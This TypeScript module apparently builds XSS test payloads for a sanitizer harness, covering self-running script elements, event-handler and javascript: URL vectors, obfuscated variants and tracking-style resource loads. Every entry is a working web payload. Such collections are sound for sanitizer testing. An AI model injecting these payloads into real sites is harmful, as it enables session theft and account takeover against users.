/** XSS payloads by element: self-executing, triggered by interaction, and only loading something. */
import { entities, mixed, run, trapOrigin } from './spelling.ts';

/** Elements that execute as soon as they are parsed. */
export function selfStarting(): string[] {
  const frame = `<script>${run}</script>`;
  return [
    `<script>${run}</script>`,
    `<script type=module>${run}</script>`,
    `<script>//<!--\n${run}//--></script>`,
    `<script src="data:text/javascript,${run}"></script>`,
    `<script src="${trapOrigin}/#.js"></script>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script href="data:text/javascript,${run}"/></svg>`,
    `<svg><script xlink:href="data:text/javascript,${run}"></script></svg>`,
    `<math><script>${run}</script></math>`,
    `<iframe srcdoc="${frame}"></iframe>`,
    `<iframe srcdoc='${frame.replaceAll('<', '&lt;')}'></iframe>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe src="data:text/html,${frame}"></iframe>`,
    `<frameset><frame src="javascript:${run}"></frameset>`,
    `<object data="javascript:${run}"></object>`,
    `<object data="data:text/html,${frame}"></object>`,
    `<embed src="javascript:${run}">`,
    `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<meta http-equiv="refresh" content="0;url=${trapOrigin}/#">`,
    `<base href="${trapOrigin}/"><img src="#.png">`,
    `<link rel="stylesheet" href="${trapOrigin}/#.css">`,
    `<link rel="modulepreload" href="${trapOrigin}/#.js">`,
    `<link rel="import" href="data:text/html,${frame}">`,
    `<style>@import "${trapOrigin}/#";</style>`,
    `<style>*{background:url(${trapOrigin}/#)}</style>`,
    `<template shadowrootmode="open">${frame}<img src onerror=${run}></template>`,
    `<portal src="javascript:${run}"></portal>`,
    `<applet code="javascript:${run}"></applet>`,
    `<isindex type=image src=1 onerror=${run}>`,
    `<form action="javascript:${run}"><input type=submit autofocus onfocus=this.click()></form>`,
    `<button popovertarget=x onbeforetoggle=${run} autofocus onfocus=this.click()>b</button><p popover id=x>p</p>`,
  ];
}

export function handlers(): string[] {
  const firing = [
    ['img src=x', 'onerror'],
    ['img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'onload'],
    ['image src=x', 'onerror'],
    ['input autofocus', 'onfocus'],
    ['input type=image src=x', 'onerror'],
    ['textarea autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['button autofocus', 'onfocus'],
    ['a href=# autofocus', 'onfocus'],
    ['p tabindex=0 autofocus', 'onfocus'],
    ['summary autofocus', 'onfocus'],
    ['details open', 'ontoggle'],
    ['body', 'onload'],
    ['body', 'onpageshow'],
    ['svg', 'onload'],
    ['iframe', 'onload'],
    ['video src=x', 'onerror'],
    ['video', 'onloadstart'],
    ['audio src=x', 'onerror'],
    ['object data=x:x', 'onerror'],
    ['embed src=x:x', 'onload'],
    ['link rel=stylesheet href=data:text/css,', 'onload'],
    ['style', 'onload'],
    ['script src=x:x', 'onerror'],
    ['marquee', 'onstart'],
    ['p style=animation:x contenteditable autofocus', 'onfocus'],
    ['blockquote tabindex=0 autofocus', 'onfocus'],
    ['li tabindex=0 autofocus', 'onfocusin'],
    ['strong contenteditable autofocus', 'onfocus'],
    ['h3 tabindex=0 autofocus', 'onfocus'],
  ] as const;
  const pressed = 'onclick onmouseover onpointerenter onpointerdown onkeydown oncopy onwheel'.split(' ');
  const kept = ['a href=#', 'p', 'b', 'li', 'ul', 'blockquote', 'h2', 'hr', 'br'];
  const timed = ['begin', 'end', 'repeat'].map((event) => `onrepeat=${run} on${event}=${run}`);
  return [
    ...firing.map(([tag, event]) => `<${tag} ${event}=${run}>`),
    ...firing.map(
      ([tag, event]) => `<${tag.toUpperCase()}\n${mixed(event)}\t=\f"${entities('top.')}hit(#)">`,
    ),
    ...kept.flatMap((tag) => pressed.slice(0, 3).map((event) => `<${tag} ${event}="${run}">x`)),
    ...pressed.slice(3).map((event) => `<p/${event}='${run}'>x`),
    ...timed.map((events) => `<svg><animate ${events} attributeName=x dur=1ms repeatCount=2></svg>`),
    `<svg><set onbegin=${run} attributeName=x></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>a</text></a></svg>`,
    `<svg><image href=x onerror=${run}></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x"/></svg>`,
    `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
    `<picture><source srcset=x onerror=${run}><img src=x onerror=${run}></picture>`,
    `<video><source onerror=${run} src=x></video>`,
    `<table background="javascript:${run}"><tr><td onmouseover=${run}>x</table>`,
  ];
}

export function addressAttributes(): string[] {
  const address = `javascript:${run}`;
  return [
    `<a xlink:href="${address}">a</a>`,
    `<a ping="${trapOrigin}/#" href="#" autofocus onfocus="this.click()">a</a>`,
    `<svg><a href="${address}"><text y=20>a</text></a></svg>`,
    `<svg><a xlink:href="${address}"><text y=20>a</text></a></svg>`,
    `<math href="${address}">a</math>`,
    `<math><mi xlink:href="${address}">a</mi></math>`,
    `<area href="${address}" shape=default>`,
    `<form><button formaction="${address}">a</button></form>`,
    `<form><input type=submit formaction="${address}"></form>`,
    `<img src="${address}">`,
    `<img srcset="${address} 1x">`,
    `<img lowsrc="${address}" dynsrc="${address}">`,
    `<body background="${address}">`,
    `<video poster="${address}">`,
    `<blockquote cite="${address}">a</blockquote>`,
    `<a href="#" target="_blank" rel="opener" onclick="${run}">a</a>`,
    `<a href="/ok" download="${address}" onclick="${run}">a</a>`,
  ];
}

/** Elements that only report the visit to another site (tracking). */
export function quietLoads(): string[] {
  const address = `${trapOrigin}/#`;
  return [
    `<img src="${address}">`,
    `<img srcset="${address} 1x">`,
    `<picture><source srcset="${address}"><img></picture>`,
    `<video src="${address}" poster="${address}" autoplay>`,
    `<audio src="${address}" autoplay>`,
    `<iframe src="${address}"></iframe>`,
    `<object data="${address}"></object>`,
    `<embed src="${address}">`,
    `<link rel=preconnect href="${address}"><link rel=prefetch href="${address}">`,
    `<p style="background:url(${address})">x</p>`,
    `<table background="${address}"><tr><td>x</table>`,
    `<input type=image src="${address}">`,
    `<svg><image href="${address}"/></svg>`,
    `<svg><use href="${address}#x"/></svg>`,
    `<svg><feImage href="${address}"/></svg>`,
    `<track src="${address}"><video><track default src="${address}"></video>`,
  ];
}
